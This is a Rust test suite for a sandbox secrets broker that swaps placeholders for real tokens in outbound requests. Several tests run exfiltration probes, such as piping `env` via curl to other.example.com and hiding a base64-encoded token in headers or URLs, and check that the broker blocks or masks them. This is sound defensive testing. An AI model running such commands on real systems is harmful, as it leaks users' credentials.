//! Secrets: the broker puts them into requests, and the box has only placeholders.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::*;

/// The value of the secret `token`.
const SECRET_VALUE: &str = "ghp_thisIsTheRealValue0123456789abcdefAB";

/// Creates a lab with a secret `token` for `api.example.com`, whose placeholder is in the variable `TOKEN`.
fn lab_with_secret(slots: &str, upstream: &Upstream, authority: &Authority) -> Lab {
    let lab = lab();
    let rule = rule("api.example.com", upstream, "secrets = [\"token\"]");
    let secret = format!(
        "[secret.token]\nhosts = [\"api.example.com\"]\nslots = [{slots}]\nshape = \"ghp_{{36}}\"\nenv = \"TOKEN\"\n"
    );
    lab.configure_for(
        authority,
        &format!(
            "[template.default]\nnet = \"restricted\"\nsecrets = [\"token\"]\n{rule}\n{secret}"
        ),
    );
    lab.belljar(["secret", "set", "token"]).input(SECRET_VALUE).run().expect(0);
    lab
}

/// Creates a lab with an echo server as `api.example.com` and a secret in these slots.
fn lab_with_secret_and_echo(slots: &str) -> (Lab, Upstream) {
    let authority = Authority::new();
    let upstream = Upstream::echo(&authority, &["api.example.com"]);
    (lab_with_secret(slots, &upstream, &authority), upstream)
}

#[test]
fn broker_sends_the_secret_to_the_server_and_gives_the_box_a_placeholder() {
    let (lab, upstream) = lab_with_secret_and_echo("\"header:authorization\"");
    let script =
        "echo $TOKEN; curl -sS -H \"authorization: Bearer $TOKEN\" https://api.example.com/user";
    let ended = lab.bash(script).run();
    let out = ended.expect(0);
    let placeholder = out.lines().next().unwrap();
    assert!(placeholder.starts_with("ghp_") && placeholder.len() == 40, "{placeholder}");
    assert_ne!(placeholder, SECRET_VALUE);
    let received = upstream.received();
    let expect = format!("Bearer {SECRET_VALUE}");
    assert_eq!(received[0].header("authorization"), Some(expect.as_str()));
    assert!(!out.contains(SECRET_VALUE), "the secret is removed from the response: {out}");
    assert!(out.contains("[belljar:token]"), "{out}");
    let log = lab.belljar(["ledger", "log", "--json"]).run().expect(0);
    assert!(log.contains("secret.used") && !log.contains(SECRET_VALUE), "{log}");
}

#[test]
fn broker_adds_tls_and_the_secret_to_a_plain_http_request() {
    let (lab, upstream) = lab_with_secret_and_echo("\"header:authorization\"");
    let script = r#"exec 3<>/dev/tcp/192.0.2.1/443
printf 'GET https://api.example.com/user HTTP/1.1\r\nhost: api.example.com\r\nauthorization: Bearer %s\r\nconnection: close\r\n\r\n' "$TOKEN" >&3
cat <&3"#;
    let out = lab.bash(script).run().expect(0);
    assert!(out.starts_with("HTTP/1.1 200 OK"), "{out}");
    let [received] = &upstream.received()[..] else { panic!("one request") };
    let expect = format!("Bearer {SECRET_VALUE}");
    assert_eq!(received.header("authorization"), Some(expect.as_str()));
    assert_eq!(received.sni.as_deref(), Some("api.example.com"));
    assert!(
        !out.contains(SECRET_VALUE) && out.contains("[belljar:token]"),
        "the secret is removed from the response: {out}"
    );
    let log = lab.belljar(["ledger", "log", "--json"]).run().expect(0);
    assert!(log.contains("secret.used") && !log.contains(SECRET_VALUE), "{log}");
}

#[test]
fn broker_replaces_the_placeholder_in_basic_credentials() {
    let (lab, upstream) = lab_with_secret_and_echo("\"basic\"");
    let out = lab.bash("curl -sS -u user:$TOKEN https://api.example.com/").run().expect(0);
    let received = upstream.received();
    let basic = STANDARD.encode(format!("user:{SECRET_VALUE}"));
    let expect = format!("Basic {basic}");
    assert_eq!(received[0].header("authorization"), Some(expect.as_str()));
    assert!(!out.contains(&basic) && !out.contains(SECRET_VALUE), "{out}");
}

#[test]
fn broker_denies_requests_with_a_placeholder_outside_of_its_slot() {
    let (lab, upstream) = lab_with_secret_and_echo("\"header:authorization\"");
    for request in [
        "-H \"x-other: $TOKEN\" https://api.example.com/",
        "\"https://api.example.com/?t=$TOKEN\"",
        "https://api.example.com/$TOKEN",
        "-H \"user-agent: $(printf %s $TOKEN | base64 -w0)\" https://api.example.com/",
    ] {
        let script = format!("curl -sS -o /dev/null -w '%{{http_code}}' {request}");
        let ended = lab.bash(&script).run();
        assert_eq!(ended.expect(0), "403", "{request}");
        assert!(ended.err().contains("alarm: placeholder"), "{request}: {}", ended.err());
    }
    let sent = upstream.received();
    assert!(sent.iter().all(|request| request.path != "/user"), "{sent:?}");
}

#[test]
fn run_with_an_unset_secret_names_the_command_that_sets_it() {
    let lab = lab();
    lab.configure("[secret.token]\nhosts = [\"api.example.com\"]\n");
    lab.belljar(["run", "--allow", "api.example.com", "--secret", "token", "--", "true"])
        .run()
        .fails_with(2, "belljar secret set token");
}

/// A WebSocket client in Python: authenticates with the token, sends one message, and prints all
/// messages that it receives.
const WEBSOCKET: &str = r#"
import os, socket, ssl, sys
def frame(text):
    mask = os.urandom(4)
    body = bytes(byte ^ mask[at % 4] for at, byte in enumerate(text))
    return bytes([0x81, 0x80 | len(text)]) + mask + body
def receive(stream):
    text = b""
    while True:
        first, length = stream.read(2)
        text += stream.read(length)
        if first & 0x80:
            return text.decode()
raw = socket.create_connection(("api.example.com", 443))
tls = ssl.create_default_context().wrap_socket(raw, server_hostname="api.example.com")
tls.sendall((
    "GET /live HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    "Authorization: Bearer " + os.environ["TOKEN"] + "\r\n\r\n").encode())
stream = tls.makefile("rb")
status = stream.readline().decode().split()[1]
while stream.readline().strip():
    pass
print(status)
if status == "101":
    print(receive(stream))
    tls.sendall(frame(sys.argv[1].encode().replace(b"TOKEN", os.environ["TOKEN"].encode())))
    print(receive(stream))
"#;

#[test]
fn a27_broker_inspects_websocket_messages_in_both_directions() {
    let authority = Authority::new();
    let upstream = Upstream::websocket(&authority, &["api.example.com"]);
    let lab = lab_with_secret("\"header:authorization\"", &upstream, &authority);
    lab.write("client.py", WEBSOCKET);
    let run = |message: &str| {
        let script = format!("python3 client.py {message}");
        lab.bash(&script).run()
    };
    // No rule allows WebSockets yet.
    assert_eq!(run("hello").expect(0), "403");
    let file = lab.home().join(".config/belljar/belljar.toml");
    let rules = std::fs::read_to_string(&file).unwrap();
    let rules =
        rules.replace("secrets = [\"token\"]\n\n", "secrets = [\"token\"]\nwebsocket = true\n\n");
    std::fs::write(&file, rules).unwrap();
    assert_eq!(run("hello").expect(0), "101\nBearer [belljar:token]\nhello");
    let received = upstream.received();
    assert_eq!(
        received.last().unwrap().header("authorization"),
        Some(format!("Bearer {SECRET_VALUE}").as_str())
    );
    let masked = run("say-TOKEN-aloud");
    assert_eq!(masked.expect(0), "101\nBearer [belljar:token]\nsay-[belljar:token]-aloud");
    assert!(!masked.err().contains("alarm"), "{}", masked.err());
}

#[test]
fn b01_placeholder_in_a_body_is_masked_toward_its_host_and_refused_toward_another() {
    let authority = Authority::new();
    let echo = |received: &belljar_testkit::Received| Reply::new(200, received.body.clone());
    let own = Upstream::tls(&authority, &["api.example.com"], echo);
    let other = Upstream::tls(&authority, &["other.example.com"], echo);
    let lab = lab_with_secret("\"header:authorization\"", &own, &authority);
    let file = lab.home().join(".config/belljar/belljar.toml");
    let rules = std::fs::read_to_string(&file).unwrap();
    let more = rule("other.example.com", &other, "");
    std::fs::write(&file, format!("{rules}\n{more}")).unwrap();
    // A body with a length, a chunked body, and a body after the placeholder was sent in its slot.
    let post = |host: &str, how: &str| {
        format!(
            "env | curl -sS {how} -H 'content-type: text/plain' --data-binary @- https://{host}/ | grep -a ^TOKEN="
        )
    };
    let bearer = "-H \"authorization: Bearer $TOKEN\"";
    for how in ["", "-H 'transfer-encoding: chunked' --http1.1", bearer] {
        let ended = lab.bash(&post("api.example.com", how)).run();
        assert_eq!(ended.expect(0).trim(), "TOKEN=[belljar:token]", "{how}: {}", ended.err());
        assert!(!ended.err().contains("alarm"), "{}", ended.err());
    }
    let lengths: Vec<Option<String>> =
        own.received().iter().map(|it| it.header("content-length").map(str::to_owned)).collect();
    assert!(lengths[0].is_some(), "a body with a length keeps one: {lengths:?}");
    let log = lab.belljar(["ledger", "log", "--json", "--kind", "secret.masked"]).succeed();
    assert_eq!(log.lines().count(), 3, "{log}");
    // Toward another host, the body is refused and no byte of the placeholder is sent.
    let refused = lab.bash(&post("other.example.com", "")).run();
    assert_ne!(refused.code(), 0, "{}", refused.out());
    assert!(refused.err().contains("alarm: placeholder-elsewhere"), "{}", refused.err());
    for it in other.received() {
        assert!(!String::from_utf8_lossy(&it.body).contains("TOKEN=ghp_"), "{it:?}");
    }
    // Control: the other host gets bodies without a placeholder.
    let control = "curl -sS -d hello https://other.example.com/";
    assert_eq!(lab.bash(control).run().expect(0), "hello");
}

#[test]
fn b22_broker_fetches_access_tokens_and_the_box_cannot_refresh_them() {
    let authority = Authority::new();
    let upstream = Upstream::tls(&authority, &["api.example.com"], |received| {
        if received.path == "/token" {
            let answer = r#"{"access_token":"the-access-token-0123456789","expires_in":3600}"#;
            return Reply::new(200, answer).header("content-type", "application/json");
        }
        Reply::new(200, received.header("authorization").unwrap_or("nothing"))
    });
    let lab = lab();
    let rule = rule("api.example.com", &upstream, "paths = [\"/v1/**\"]\nsecrets = [\"login\"]");
    let secret = "[secret.login]\nhosts = [\"api.example.com\"]\nenv = \"LOGIN\"\nkind = \"oauth2\"\n\
                  token-url = \"https://api.example.com/token\"\nclient-id = \"me\"\n";
    lab.configure_for(
        &authority,
        &format!(
            "[template.default]\nnet = \"restricted\"\nsecrets = [\"login\"]\n{rule}\n{secret}"
        ),
    );
    lab.belljar(["secret", "set", "login"]).input("the-refresh-token-9876543210").run().expect(0);
    let get = "curl -sS -H \"authorization: Bearer $LOGIN\" https://api.example.com/v1/me; echo; ";
    let script = format!(
        "{get}{get}curl -sS -o /dev/null -w '%{{http_code}}' https://api.example.com/token"
    );
    let ended = lab.bash(&script).run();
    assert_eq!(ended.expect(0), "Bearer [belljar:login]\nBearer [belljar:login]\n403");
    let received = upstream.received();
    let paths: Vec<&str> = received.iter().map(|request| request.path.as_str()).collect();
    assert_eq!(
        paths,
        ["/token", "/v1/me", "/v1/me"],
        "one token serves both requests, and the box gets no token"
    );
    let body = String::from_utf8_lossy(&received[0].body);
    assert!(
        body.contains("grant_type=refresh_token") && body.contains("the-refresh-token"),
        "{body}"
    );
    let authorization = received[1].header("authorization");
    assert_eq!(authorization, Some("Bearer the-access-token-0123456789"));
    let log = lab.belljar(["ledger", "log", "--json"]).run().expect(0);
    assert!(
        log.contains("/token") && !log.contains("the-access-token") && !log.contains("the-refresh"),
        "{log}"
    );
}

#[test]
fn b22_refresh_token_of_a_removed_secret_raises_an_alarm_and_is_not_stored() {
    let (lab, authority) = (lab(), Authority::new());
    let file = lab.state().join("vault/login.sealed");
    let stored = file.clone();
    let upstream = Upstream::tls(&authority, &["api.example.com"], move |received| {
        if received.path == "/token" {
            // The operator removes the secret while it is being renewed.
            std::fs::remove_file(&stored).unwrap();
            let answer = r#"{"access_token":"an-access-token","refresh_token":"another-refresh"}"#;
            return Reply::new(200, answer).header("content-type", "application/json");
        }
        Reply::new(200, "welcome")
    });
    let rule = rule("api.example.com", &upstream, "secrets = [\"login\"]");
    let secret = "[secret.login]\nhosts = [\"api.example.com\"]\nenv = \"LOGIN\"\nkind = \"oauth2\"\n\
                  token-url = \"https://api.example.com/token\"\nclient-id = \"me\"\n";
    let template = "[template.default]\nnet = \"restricted\"\nsecrets = [\"login\"]";
    lab.configure_for(&authority, &format!("{template}\n{rule}\n{secret}"));
    lab.belljar(["secret", "set", "login"]).input("the-refresh-token-9876543210").run().expect(0);
    let get = "curl -sS -H \"authorization: Bearer $LOGIN\" https://api.example.com/me";
    let ended = lab.bash(get).run();
    assert_eq!(ended.expect(0), "welcome");
    assert!(ended.err().contains("alarm: login-not-kept"), "{}", ended.err());
    assert!(ended.err().contains("set again or removed in the meantime"), "{}", ended.err());
    assert!(!file.exists());
    let log = lab.belljar(["ledger", "log", "--json"]).run().expect(0);
    assert!(log.contains("login-not-kept") && !log.contains("secret.renewed"), "{log}");
    assert!(!log.contains("another-refresh"), "{log}");
}

#[test]
fn b22_new_refresh_token_is_stored_although_the_client_gave_up() {
    let (lab, authority) = (lab(), Authority::new());
    let (gave_up, wait_for_give_up) = std::sync::mpsc::channel();
    let wait_for_give_up = std::sync::Mutex::new(wait_for_give_up);
    let other = Upstream::tls(&authority, &["other.example.com"], move |_| {
        gave_up.send(()).unwrap();
        Reply::new(200, "")
    });
    let upstream = Upstream::tls(&authority, &["api.example.com"], move |received| {
        if received.path != "/token" {
            return Reply::new(200, "welcome");
        }
        wait_for_give_up.lock().unwrap().recv().unwrap();
        let answer = r#"{"access_token":"an-access-token","refresh_token":"another-refresh"}"#;
        Reply::new(200, answer).header("content-type", "application/json")
    });
    let rule = rule("api.example.com", &upstream, "secrets = [\"login\"]");
    let secret = "[secret.login]\nhosts = [\"api.example.com\"]\nenv = \"LOGIN\"\nkind = \"oauth2\"\n\
                  token-url = \"https://api.example.com/token\"\nclient-id = \"me\"\n";
    let other = self::rule("other.example.com", &other, "");
    let template = "[template.default]\nnet = \"restricted\"\nsecrets = [\"login\"]";
    lab.configure_for(&authority, &format!("{template}\n{rule}\n{other}\n{secret}"));
    lab.belljar(["secret", "set", "login"]).input("the-refresh-token-9876543210").run().expect(0);
    let script = "get() { curl -sS -H \"authorization: Bearer $LOGIN\" \"$@\" https://api.example.com/me; }; \
         get -m 1 2> /dev/null; echo $?; curl -sS -o /dev/null https://other.example.com; get";
    assert_eq!(lab.bash(script).run().expect(0), "28\nwelcome");
    let received = upstream.received();
    let count = received.iter().filter(|request| request.path == "/token").count();
    assert_eq!(count, 1, "the token that the first request fetched serves the second one");
    let log = lab.belljar(["ledger", "log", "--json"]).run().expect(0);
    assert_eq!(log.matches("secret.renewed").count(), 1, "{log}");
}
